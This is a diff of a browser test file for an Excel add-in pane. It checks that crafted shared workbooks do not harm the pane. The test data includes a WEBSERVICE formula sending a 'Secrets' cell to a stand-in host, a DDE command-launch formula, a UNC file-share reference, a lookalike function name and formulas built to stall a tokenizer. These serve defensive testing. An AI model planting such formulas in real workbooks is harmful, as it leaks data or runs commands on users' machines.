@@ -6,6 +6,8 @@
  * sheet (nothing hostile, nothing outside the selection) and that the pane stays usable.
  */
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { callsZcFunction } from "../../functions/storedFormula.js";
+import { craftedFamilies } from "../craftedFormulas.js";
 import { browserAvailable, fakeState, openPane, selectCells, startPageHost, type PageHost, type PanePage } from "./pageHost.js";
 
 type Cells = Record<string, { formula?: string; value?: unknown }>;
@@ -14,6 +16,23 @@ type Cells = Record<string, { formula?: string; value?: unknown }>;
 const crafted = (formula: string) => `Frozen by zcell 0.1.0 on 2026-12-01.\nFormula: ${formula}\nModel: P18-BAO\nValue computed under that cosmology.`;
 const exfiltrate = '=WEBSERVICE("https://example.invalid/?d="&ENCODEURL(Secrets!A1))';
 const dde = "=cmd|' /C calc'!A0";
+
+/** Records the duration of every long task (50 ms or more, the Long Tasks API) in window.__longTasks; run before the page's own scripts. */
+const observeLongTasks = () => {
+  const w = window as unknown as { __longTasks: number[] };
+  w.__longTasks = [];
+  new PerformanceObserver((list) => list.getEntries().forEach((e) => w.__longTasks.push(e.duration))).observe({ type: "longtask" });
+};
+/** The longest task seen so far (0 when none reached 50 ms), once the pane has started and settled. */
+const longestTask = async (page: PanePage) => {
+  await page.locator("#apply").waitFor();
+  await new Promise((r) => setTimeout(r, 300));
+  return page.evaluate(() => Math.max(0, ...(window as unknown as { __longTasks: number[] }).__longTasks));
+};
+
+/** 100 ZC formulas of 8,192 characters crafted to stall a formula reader (each family of test/craftedFormulas.ts that calls ZC, in turn). */
+const craftedZc = craftedFamilies.map((f) => f.formula(8192)).filter(callsZcFunction);
+const craftedHundred = Array.from({ length: 100 }, (_, i) => craftedZc[i % craftedZc.length]);
 
 /** An invented sheet: two plain cells with crafted annotations, one frozen cell zcell froze, one that would spill. */
 const frozenSheet = (): Record<string, Cells> => ({
@@ -69,6 +88,33 @@ describe.runIf(browserAvailable())("a crafted shared workbook against the pane",
       await page.close();
     });
   }
+
+  test("Thaw and repair check references against the workbook's own sheets and Excel's sheet limits", async () => {
+    const notes = [
+      { address: "'Sheet1'!B2", text: crafted(JSON.stringify("=ZC.DIST_LUM(Ghost!A1)")) },
+      { address: "'Sheet1'!C2", text: crafted(JSON.stringify("=ZC.DIST_LUM(XFE1)")) },
+      { address: "'Sheet1'!D2", text: crafted(JSON.stringify("=ZC.DIST_LUM('\\\\server\\share\\book.xlsx'!A1)")) },
+      { address: "'Sheet1'!E2", text: crafted(JSON.stringify("=ZC.DIſT_LUM(A2)")) },
+      { address: "'Sheet1'!F2", text: crafted(JSON.stringify("=ZC.DIST_LUM(Secrets!A1)")) },
+    ];
+    const sheets = { ...frozenSheet(), Other: { A1: { formula: "=_xldudf_ZC_DIST_LUM(Ghost!A1)", value: "#NAME?" }, A2: { formula: "=_xldudf_ZC_DIST_LUM(Sheet1!A2)", value: "#NAME?" } } };
+    const page = await openPane(host, { settings: {}, sheets, selection: "Sheet1!B2:F2", notes });
+    await expect.poll(() => page.locator("#repair-others li").allTextContents()).toEqual(["Other!A1"]);
+    expect(await page.locator("#repair-go").textContent()).toBe("Enter 1 formula again");
+    await page.locator("#tab-freeze").click();
+    await page.locator("#thaw").click();
+    await expect.poll(() => page.locator("#thaw-confirm-text").textContent()).toBe("Restore 1 ZC formula in the selection? 4 cells not restored, listed below.");
+    expect(await page.locator("#thaw-refused li").allTextContents()).toEqual([
+      "B2: not restored: it refers to a sheet this workbook does not have (Ghost)",
+      "C2: not restored: it uses XFE1, which lies outside Excel's sheet (XFD1048576 is the last cell), so it is a name, and a name can stand for any formula",
+      "D2: not restored: it refers to another workbook or a file ('\\\\server\\share\\book.xlsx'!A1)",
+      "E2: not restored: it calls ZC.DIſT_LUM, whose name is not plain ASCII, so it is not a zcell function",
+    ]);
+    expect(await page.locator("#thaw-preview li").allTextContents()).toEqual(["F2: =ZC.DIST_LUM(Secrets!A1)"]);
+    expect(Object.keys((await fakeState(page, "sheets")) as object)).toEqual(["Sheet1", "Secrets", "Other"]);
+    expect(page.errors).toEqual([]);
+    await page.close();
+  });
 
   test("Cancel on the Restore formulas confirmation writes nothing", async () => {
     const page = await openPane(host, { settings: {}, sheets: frozenSheet(), selection: "Sheet1!B2", notes: annotations });
@@ -130,16 +176,6 @@ describe.runIf(browserAvailable())("a crafted shared workbook against the pane",
   }
 
   test("30,000 stored models: the pane reads the first 100, says so, and starts without a long task of their own", async () => {
-    const observeLongTasks = () => {
-      const w = window as unknown as { __longTasks: number[] };
-      w.__longTasks = [];
-      new PerformanceObserver((list) => list.getEntries().forEach((e) => w.__longTasks.push(e.duration))).observe({ type: "longtask" });
-    };
-    const longestTask = async (page: PanePage) => {
-      await page.locator("#apply").waitFor();
-      await new Promise((r) => setTimeout(r, 300));
-      return page.evaluate(() => Math.max(0, ...(window as unknown as { __longTasks: number[] }).__longTasks));
-    };
     const models: Record<string, string> = {};
     for (let i = 0; i < 30_000; i++) models[`M${i}`] = `P18-BAO; H0=${(60 + i / 1000).toFixed(3)}`;
     const pane = await openPane(host, { settings: { "zcell.workbookModels": models }, sheets: {} }, true, observeLongTasks);
@@ -157,6 +193,95 @@ describe.runIf(browserAvailable())("a crafted shared workbook against the pane",
     // Office reading the settings) and reading the first 100 (a few ms).
     expect(withModels).toBeLessThan(without + 400);
     expect(withModels).toBeLessThan(1000);
+  });
+
+  test("100 crafted #NAME? cells of 8,192 characters: the pane starts and lists them without a long task of its own", async () => {
+    const cells: Cells = {};
+    craftedHundred.forEach((formula, i) => (cells[`A${i + 1}`] = { formula, value: "#NAME?" }));
+    const pane = await openPane(host, { settings: {}, sheets: { Crafted: cells } }, true, observeLongTasks);
+    await expect.poll(() => pane.locator("#repair-text").textContent(), { timeout: 60_000 }).toMatch(/^100 ZC formulas show #NAME\? on Crafted \(100\)/);
+    const shownAt = await pane.evaluate(() => performance.now());
+    const withCells = await longestTask(pane);
+    expect(pane.errors).toEqual([]);
+    await pane.close();
+    const plain = await openPane(host, { settings: {}, sheets: {} }, true, observeLongTasks);
+    const without = await longestTask(plain);
+    await plain.close();
+    console.log(`pane start with 100 crafted #NAME? cells: banner shown ${shownAt.toFixed(0)} ms after navigation; longest task ${withCells.toFixed(0)} ms (${without.toFixed(0)} ms with none)`);
+    // before the tokenizer was linear: one frozen start of 9.4 s (the review's measurement). What
+    // remains beyond the plain start is mostly the page taking in 800 kB of formula text for the fake host.
+    expect(withCells).toBeLessThan(without + 400);
+  });
+
+  test("Thaw over 100 crafted notes of 8,192-character formulas answers without a long task of its own", async () => {
+    /** Thaw over 100 notes naming these formulas: the time to the answer and the longest task meanwhile. */
+    const thawOver = async (formulas: string[]) => {
+      const cells: Cells = {};
+      const notes = formulas.map((formula, i) => {
+        cells[`A${i + 1}`] = { value: i };
+        return { address: `'Sheet1'!A${i + 1}`, text: crafted(JSON.stringify(formula)) };
+      });
+      const page = await openPane(host, { settings: {}, sheets: { Sheet1: cells }, selection: "Sheet1!A1:A100", notes }, true, observeLongTasks);
+      await longestTask(page);
+      await page.locator("#tab-freeze").click();
+      await page.evaluate(() => ((window as unknown as { __longTasks: number[] }).__longTasks = []));
+      const t0 = Date.now();
+      await page.locator("#thaw").click();
+      await expect.poll(() => page.locator("#thaw-confirm-text").textContent(), { timeout: 60_000 }).toMatch(/^Restore \d+ ZC formulas/);
+      const answeredMs = Date.now() - t0;
+      const text = (await page.locator("#thaw-confirm-text").textContent())!;
+      const refused = await page.locator("#thaw-refused li").count();
+      const longest = await page.evaluate(() => Math.max(0, ...(window as unknown as { __longTasks: number[] }).__longTasks));
+      expect(page.errors).toEqual([]);
+      await page.close();
+      return { answeredMs, longest, text, refused };
+    };
+    const craftedRun = await thawOver(craftedHundred);
+    const [, restoring, refusedCount] = /^Restore (\d+) ZC formulas in the selection \(the first 5 below\)\? (\d+) cells not restored, listed below\.$/.exec(craftedRun.text)!;
+    expect(Number(restoring) + Number(refusedCount)).toBe(100);
+    expect(craftedRun.refused).toBe(Number(refusedCount));
+    // the same Thaw over 100 notes of an honest formula: the pane's and the fake host's own work
+    const honestRun = await thawOver(Array.from({ length: 100 }, () => "=ZC.DIST_LUM(A1)"));
+    expect(honestRun.text).toBe("Restore 100 ZC formulas in the selection (the first 5 below)?");
+    console.log(
+      `Thaw over 100 crafted notes: answered in ${craftedRun.answeredMs} ms, longest task ${craftedRun.longest.toFixed(0)} ms ` +
+        `(${restoring} restorable, ${refusedCount} refused); over 100 honest notes: ${honestRun.answeredMs} ms, longest task ${honestRun.longest.toFixed(0)} ms`,
+    );
+    // before the tokenizer was linear: one frozen pane of 28.8 s (the review's measurement)
+    expect(craftedRun.longest).toBeLessThan(honestRun.longest + 250);
+  });
+
+  test("a stored model that parses but cannot be built (H0=1e999) is listed with its reason, cannot be chosen, and is never applied", async () => {
+    const models = { GOOD: "P18-BAO; H0=70", HUGE: "P18-BAO; H0=1e999" };
+    const page = await openPane(host, { settings: { "zcell.workbookModels": models }, sheets: { Sheet1: { A1: { formula: "=ZC.AGE()", value: 13.8 } } } });
+    await page.locator("#apply").waitFor();
+    const huge = page.locator("#preset option[value='HUGE']");
+    expect(await huge.textContent()).toBe("HUGE (cannot be used)");
+    expect(await huge.isDisabled()).toBe(true);
+    expect(await page.locator("#preset option[value='GOOD']").isDisabled()).toBe(false);
+    expect(await page.locator("#workbook-models li > span:first-child").allTextContents()).toEqual([
+      "GOOD: P18-BAO; H0=70",
+      "HUGE: P18-BAO; H0=1e999 — cannot be used: H0 must be a positive number km/s/Mpc; got Infinity",
+    ]);
+    // chosen all the same (a script, an assistive tool): the form keeps the model it shows and says why
+    await page.evaluate(() => {
+      const select = document.getElementById("preset") as HTMLSelectElement;
+      select.value = "HUGE";
+      select.dispatchEvent(new Event("change"));
+    });
+    expect(await page.locator("#preset").inputValue()).toBe("P18-CMB");
+    expect(await page.locator("#model-error").textContent()).toBe("HUGE cannot be used: H0 must be a positive number km/s/Mpc; got Infinity. The form still shows P18-CMB.");
+    await page.locator("#apply").click();
+    await expect.poll(() => page.locator("#apply-status").textContent()).toBe("Applied P18-CMB; 1 formula recalculated.");
+    expect(((await fakeState(page, "saved")) as Record<string, unknown>)["zcell.activeModel"]).toBe("P18-CMB");
+    // a usable one is chosen and applied under its own name
+    await page.selectOption("#preset", "GOOD");
+    expect(await page.locator("#f-H0").inputValue()).toBe("70");
+    await page.locator("#apply").click();
+    await expect.poll(() => page.locator("#apply-status").textContent()).toBe("Applied GOOD; 1 formula recalculated.");
+    expect(((await fakeState(page, "saved")) as Record<string, unknown>)["zcell.activeModel"]).toBe("GOOD");
+    expect(page.errors).toEqual([]);
+    await page.close();
   });
 
   test("the inspector does not read a whole-column reference, and says so", async () => {
